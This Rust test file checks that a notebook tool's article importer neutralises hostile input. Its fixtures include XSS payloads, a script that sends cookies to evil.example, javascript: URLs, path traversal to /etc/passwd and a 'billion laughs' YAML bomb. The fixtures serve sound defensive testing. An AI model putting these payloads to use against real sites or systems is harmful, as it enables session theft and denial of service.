//! What a hostile imported article or a hostile notebook file can reach
//! (RELIABILITY.md, security): metadata stays data, markup in text stays
//! text, links out of the notebook are not followed, YAML bombs are bounded.
//! The renderer's own hostile-input tests are in `writing.rs`.

use dossier_core::{NewAnnotation, Notebook};

use crate::common::{copy_of_bundled, import, write};

#[test]
fn a_hostile_article_stays_text_and_its_metadata_stays_data() {
    let files = tempfile::tempdir().unwrap();
    let html = r#"<!doctype html><html><head>
        <title>&lt;script&gt;alert(1)&lt;/script&gt; Talks</title>
        <meta name="author" content="A. Writer
---
format: html
title: injected">
        <meta property="og:site_name" content="Outlet: {{ evil }} ---">
        <link rel="canonical" href="javascript:alert(document.cookie)">
        <script>fetch('https://evil.example/?c=' + document.cookie)</script>
        <base href="https://evil.example/">
        </head><body><article>
        <p>Plain text with &lt;img src=x onerror=alert(1)&gt; written out, and hostileword.</p>
        <p onclick="alert(1)">A <a href="javascript:alert(1)">link</a> and <img src="https://tracker.example/p.gif"> an image.</p>
        <iframe src="https://evil.example"></iframe><form><input value="secret"></form>
        </article></body></html>"#;
    let file = write(files.path(), "hostile.html", html);
    let nb_dir = tempfile::tempdir().unwrap();
    let mut nb = Notebook::open(nb_dir.path()).unwrap();
    let id = import(&mut nb, &[file]).unwrap().imported[0].id.clone();
    let s = nb.source(&id).unwrap();
    assert_eq!(
        s.meta.title, "<script>alert(1)</script> Talks",
        "a title is text"
    );
    assert_eq!(
        s.meta.url, None,
        "only http(s) addresses are kept as a source's URL"
    );
    assert!(s.meta.author.as_deref().unwrap().starts_with("A. Writer"));
    assert!(!s.text.contains("fetch("), "scripts are dropped");
    assert!(!s.text.contains("secret"), "forms are dropped");
    assert!(
        s.text.contains("<img src=x onerror=alert(1)>"),
        "written-out markup stays text"
    );

    // The front matter written for it reads back as the same metadata: the
    // newlines and dashes in the author did not end it early.
    let file_text = std::fs::read_to_string(nb_dir.path().join(&s.path)).unwrap();
    assert!(
        !file_text.contains("\nformat: html\ntitle: injected"),
        "{file_text}"
    );
    drop(nb);
    std::fs::write(nb_dir.path().join(&s.path), file_text.as_bytes()).unwrap(); // new mtime
    let nb = Notebook::open(nb_dir.path()).unwrap();
    let again = nb.source(&id).unwrap();
    assert_eq!(again.meta, s.meta);
    assert_eq!(again.text, s.text);
    assert_eq!(again.versions, 1, "read back identical");

    // Snippets escape the text: the only tag in them is <mark>.
    let hits = nb.search("hostileword", 5).unwrap();
    let snippet = &hits.hits[0].snippet;
    assert!(snippet.contains("&lt;img"), "{snippet}");
    assert!(
        !snippet
            .replace("<mark>", "")
            .replace("</mark>", "")
            .contains('<'),
        "{snippet}"
    );
}

#[test]
fn markdown_front_matter_cannot_smuggle_a_javascript_url() {
    let files = tempfile::tempdir().unwrap();
    let md = "---\ntitle: Smuggled\nurl: \"javascript:alert(1)\"\n---\n\nText.\n";
    let file = write(files.path(), "smuggled.md", md);
    let nb_dir = tempfile::tempdir().unwrap();
    let mut nb = Notebook::open(nb_dir.path()).unwrap();
    let id = import(&mut nb, &[file]).unwrap().imported[0].id.clone();
    assert_eq!(nb.source(&id).unwrap().meta.url, None);
    let ok = write(
        files.path(),
        "fine.md",
        "---\ntitle: Fine\nurl: https://example.org/a\n---\n\nOther text.\n",
    );
    let id = import(&mut nb, &[ok]).unwrap().imported[0].id.clone();
    assert_eq!(
        nb.source(&id).unwrap().meta.url.as_deref(),
        Some("https://example.org/a")
    );
}

#[cfg(unix)]
#[test]
fn links_out_of_the_notebook_are_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    let secret = write(
        outside.path(),
        "secret.md",
        "# Secret\n\nsecretword in a private file.\n",
    );
    write(
        outside.path(),
        "dir/other.md",
        "# Other\n\nsecretword again.\n",
    );
    let nb_dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(&secret, nb_dir.path().join("link.md")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("dir"), nb_dir.path().join("dir")).unwrap();
    let mut nb = Notebook::open(nb_dir.path()).unwrap();
    assert!(
        nb.notes().unwrap().is_empty(),
        "symbolic links are not notes"
    );
    assert_eq!(nb.search("secretword", 5).unwrap().total, 0);
    // A note path that leaves the notebook is refused.
    for bad in ["../escape.md", "/escape.md", "a/../../escape.md"] {
        let err = nb.save_note(bad, "x", None).unwrap_err();
        assert_eq!(err.code(), "bad_input", "{bad}: {err}");
    }
    let err = nb
        .annotate(
            "../../etc/passwd",
            NewAnnotation {
                quote: Some("root".into()),
                ..NewAnnotation::default()
            },
        )
        .unwrap_err();
    assert_eq!(err.code(), "not_found", "{err}");
}

#[test]
fn a_yaml_bomb_in_front_matter_is_bounded() {
    // "Billion laughs": nine levels of aliases, each nine times the last.
    let mut yaml = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
    for w in names.windows(2) {
        let (prev, cur) = (w[0], w[1]);
        yaml.push_str(&format!(
            "{cur}: &{cur} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]\n"
        ));
    }
    yaml.push_str("title: *i\n");
    let doc = format!("---\n{yaml}---\n\n# Bomb\n\nbombword text.\n");
    let files = tempfile::tempdir().unwrap();
    let file = write(files.path(), "bomb.md", &doc);
    let nb_dir = tempfile::tempdir().unwrap();
    write(nb_dir.path(), "bomb note.md", &doc);
    let (tx, rx) = std::sync::mpsc::channel();
    let root = nb_dir.path().to_path_buf();
    std::thread::spawn(move || {
        let mut nb = Notebook::open(&root).unwrap();
        let imported = import(&mut nb, &[file]);
        let _ = tx.send((
            nb.notes().unwrap().len(),
            imported.map_err(|e| e.to_string()),
        ));
    });
    let (notes, imported) = rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("a YAML bomb must not hang the notebook");
    assert_eq!(
        notes, 1,
        "the note is read (its front matter title ignored)"
    );
    let e = imported.expect_err("a YAML bomb is refused");
    assert!(
        e.contains("front matter") && e.contains("bomb.md"),
        "refused with a reason that names the file: {e}"
    );
}

#[test]
fn deep_and_huge_front_matter_is_refused_with_a_reason_naming_the_file() {
    let files = tempfile::tempdir().unwrap();
    let deep = format!(
        "---
title: {}{}
---

Deep text.
",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    let huge = format!(
        "---
title: Huge
notes: \"{}\"
---

Huge text.
",
        "x".repeat(50 << 20)
    );
    for (name, doc) in [("deep.md", deep), ("huge.md", huge)] {
        let file = write(files.path(), name, &doc);
        let dir = copy_of_bundled();
        let mut nb = Notebook::open(dir.path()).unwrap();
        let before = nb.sources().unwrap().len();
        let e = import(&mut nb, &[file]).expect_err(name).to_string();
        assert!(e.contains(name), "{name}: the reason names the file: {e}");
        assert!(
            e.contains("front matter") || e.contains("MB"),
            "{name}: says what is wrong: {e}"
        );
        assert_eq!(nb.sources().unwrap().len(), before, "nothing imported");
    }
}

/// Found by the `anchor` fuzz target: a selector whose end comes before its
/// start (a hand-edited or hostile annotation file) made re-anchoring
/// underflow, and the orphan it gave broke the store's CHECK (start <= end),
/// which `INSERT OR IGNORE` turned into a silently dropped annotation.
#[test]
fn an_annotation_file_with_an_inverted_span_does_not_break_the_notebook() {
    let dir = crate::common::copy_of_bundled();
    write(
        dir.path(),
        "sources/russia-nato-talks.annotations.json",
        r#"[{"id": "a-inverted", "exact": "no such quote anywhere", "start": 500, "end": 20}]"#,
    );
    let nb = Notebook::open(dir.path()).unwrap();
    let a = nb.annotation("a-inverted").unwrap();
    assert_eq!(a.status, dossier_core::AnchorStatus::Orphan, "kept, listed");
    assert!(a.start <= a.end);
    drop(nb);
    // The source changes: re-anchoring the orphan does not underflow.
    let path = dir.path().join("sources/russia-nato-talks.md");
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, text.replace("NATO", "N.A.T.O.")).unwrap();
    let nb = Notebook::open(dir.path()).unwrap();
    assert!(nb.last_sync().reanchored > 0);
    assert!(nb.check().unwrap().problems.is_empty());
}

/// Found by the `anchor` fuzz target: a source file with old Mac line
/// endings (a lone `\r`), edited, made re-anchoring index out of bounds —
/// a panic while opening the notebook.
#[test]
fn a_source_with_carriage_returns_reanchors() {
    let dir = crate::common::copy_of_bundled();
    drop(Notebook::open(dir.path()).unwrap());
    let path = dir.path().join("sources/russia-nato-talks.md");
    let text = std::fs::read_to_string(&path).unwrap();
    let (yaml, body) = dossier_core::text::split_front_matter(&text);
    let cr = format!("---\n{}---\n{}", yaml.unwrap(), body.replace('\n', "\r"));
    std::fs::write(&path, &cr).unwrap();
    let nb = Notebook::open(dir.path()).unwrap();
    assert!(nb.last_sync().reanchored > 0);
    drop(nb);
    std::fs::write(&path, cr.replacen("NATO", "The alliance", 1)).unwrap();
    let nb = Notebook::open(dir.path()).unwrap();
    assert!(nb.last_sync().reanchored > 0);
    assert!(nb.check().unwrap().problems.is_empty());
}
